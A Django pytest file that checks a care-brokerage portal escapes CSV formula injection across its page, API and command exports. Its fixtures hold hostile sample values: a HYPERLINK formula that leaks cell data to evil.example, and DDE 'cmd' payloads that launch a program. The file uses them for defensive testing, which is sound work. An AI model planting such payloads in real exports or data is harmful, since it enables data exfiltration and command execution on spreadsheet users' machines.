"""Issue 14.3: no export can run a formula. Every CSV the portal writes (pages, API, commands)
goes through core.csvio.safe_cell: text starting with =, +, -, @, tab or carriage return gets a
leading single quote (OWASP); numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from decimal import Decimal
from io import StringIO

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone

from brokerage.models import Offer
from core.csvio import csv_response, safe_cell
from tests.factories import BranchFactory, PackageFactory, ProviderFactory, WardFactory
from wards.services import register_change

pytestmark = pytest.mark.django_db

NOTE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
PROVIDER = "=cmd|' /C calc'!A0"
BRANCH = "@SUM(1+1)*cmd|' /C calc'!A0"
WARD = "+Fishwick"
SILENT = "-Silent Care Ltd"


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Fishwick", "Fishwick"),
        ("", ""),
        ("a=b", "a=b"),
        # Plain numbers are data: a negative figure keeps its sign, whether written as a number
        # or as text that is only a number.
        ("-1.5", "-1.5"),
        ("+3", "+3"),
        ("-1.5e3", "'-1.5e3"),
        (-1.5, -1.5),
        (-2, -2),
        (Decimal("-0.25"), Decimal("-0.25")),
        (None, None),
    ],
)
def test_safe_cell_neutralises_formula_starts_only(value, expected):
    assert safe_cell(value) == expected


def test_csv_response_neutralises_header_and_rows_streamed_or_not():
    for stream in (False, True):
        response = csv_response("x.csv", [[NOTE, -1.5, 3]], header=["=h"], stream=stream)
        body = (b"".join(response.streaming_content) if stream else response.content).decode()
        assert list(csv.reader(io.StringIO(body))) == [["'=h"], ["'" + NOTE, "-1.5", "3"]]


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200
    body = (
        b"".join(response.streaming_content) if response.streaming else response.content
    ).decode()
    return list(csv.reader(io.StringIO(body)))


def no_formula(rows: list[list[str]]) -> None:
    """No cell a spreadsheet would run: each starts with none of = + - @ tab CR (or is a plain
    number)."""
    for row in rows:
        for cell in row:
            assert safe_cell(cell) == cell, (cell, row)


@pytest.fixture
def hostile(db, nina):
    """A provider, branch and ward named like formulas, and an offer whose note is one."""
    provider = ProviderFactory(ref="PX", name=PROVIDER)
    branch = BranchFactory(provider=provider, ref="X1", name=BRANCH)
    ward = WardFactory(code="E05019999", name=WARD, district="-Preston")
    register_change(add=[(branch, ward)], actor=nina)
    register_change(remove=[(branch, ward)], actor=nina)
    register_change(add=[(branch, ward)], actor=nina)
    now = timezone.now()
    sent = now - timedelta(days=2)
    for i in range(25):
        Offer.objects.create(
            package=PackageFactory(ward=ward, status="offered"),
            branch=branch,
            provider=provider,
            sent_at=sent,
            deadline=sent + timedelta(days=1),
            placement_response="unable_to_accept" if i else "no_response",
            reason="no_capacity" if i else "",
            note=NOTE if i else "",
            outcome="open",
        )
    silent = ProviderFactory(ref="PY", name=SILENT)
    silent_branch = BranchFactory(provider=silent, ref="Y1", name="Silent")
    for _ in range(3):
        Offer.objects.create(
            package=PackageFactory(ward=ward, status="offered"),
            branch=silent_branch,
            provider=silent,
            sent_at=sent,
            deadline=sent + timedelta(days=1),
            placement_response="no_response",
            outcome="open",
        )
    return {"provider": provider, "branch": branch, "ward": ward, "now": now}


def test_offer_history_csv_page_and_api_neutralise_note_and_names(client, api_as, nina, hostile):
    client.force_login(nina)
    for response in (
        client.get(reverse("brokerage:history-csv")),
        api_as(nina).get("/api/v1/offers/export.csv"),
    ):
        rows = rows_of(response)
        ours = [dict(zip(rows[0], row, strict=True)) for row in rows[1:] if row[12] == "X1"]
        first = ours[-1]
        assert first["note"] == "'" + NOTE
        assert first["provider_name"] == "'" + PROVIDER
        assert first["branch_name"] == "'" + BRANCH
        assert first["ward_name"] == "'" + WARD
        no_formula(rows)


def test_ward_list_csv_neutralises_ward_names(client, nina, hostile):
    client.force_login(nina)
    rows = rows_of(client.get(reverse("wards:list-csv")))
    assert ["E05019999", "'" + WARD, "'-Preston"] in [row[:3] for row in rows], rows
    no_formula(rows)


def test_register_csv_page_api_and_command_neutralise_names(client, api_as, nina, hostile):
    client.force_login(nina)
    for response in (
        client.get(reverse("wards:register-version-csv", args=[3])),
        api_as(nina).get("/api/v1/register/versions/3/export.csv"),
    ):
        rows = rows_of(response)
        assert rows[1][:4] == ["PX", "'" + PROVIDER, "X1", "'" + BRANCH]
        no_formula(rows)
    out = StringIO()
    call_command("export_register", stdout=out, stderr=StringIO())
    rows = list(csv.reader(StringIO(out.getvalue())))
    assert rows[1][:4] == ["PX", "'" + PROVIDER, "X1", "'" + BRANCH]
    no_formula(rows)


def test_export_register_to_a_file_neutralises_names(hostile, tmp_path):
    path = tmp_path / "register.csv"
    call_command("export_register", str(path), stdout=StringIO(), stderr=StringIO())
    rows = list(csv.reader(path.open(newline="", encoding="utf-8")))
    assert rows[1][1] == "'" + PROVIDER
    no_formula(rows)


def test_register_changes_csv_neutralises_names(client, carl, hostile):
    client.force_login(carl)
    rows = rows_of(client.get(reverse("wards:register-version-changes-csv", args=[3])))
    assert any("'" + PROVIDER in row for row in rows[1:]), rows
    no_formula(rows)


def test_ward_health_and_cleanse_csv_neutralise_names(client, carl, hostile):
    client.force_login(carl)
    today = timezone.localdate()
    period = {"from": str(today - timedelta(days=30)), "to": str(today)}
    rows = rows_of(client.get(reverse("ward_health:health"), {**period, "format": "csv"}))
    assert any(row[:3] == ["E05019999", "'" + WARD, "'-Preston"] for row in rows), rows
    no_formula(rows)
    rows = rows_of(client.get(reverse("ward_health:cleanse-csv"), period))
    assert rows[1][:6] == ["PX", "'" + PROVIDER, "X1", "'" + BRANCH, "E05019999", "'" + WARD]
    no_formula(rows)


@pytest.mark.parametrize(
    "figure, provider",
    [
        ("response-rates", ["PX", "'" + PROVIDER]),
        ("offer-rates", ["PX", "'" + PROVIDER]),
        ("never-responded", ["PY", "'" + SILENT]),
    ],
)
def test_kpi_dashboard_csvs_neutralise_provider_names(client, carl, hostile, figure, provider):
    client.force_login(carl)
    rows = rows_of(client.get(reverse("kpi:dashboard-csv", args=[figure])))
    assert provider in [row[:2] for row in rows], rows
    no_formula(rows)


def test_response_rates_csv_neutralises_provider_names(client, carl, hostile):
    client.force_login(carl)
    rows = rows_of(client.get(reverse("kpi:rates-csv")))
    assert any(row[:2] == ["PX", "'" + PROVIDER] for row in rows), rows
    no_formula(rows)
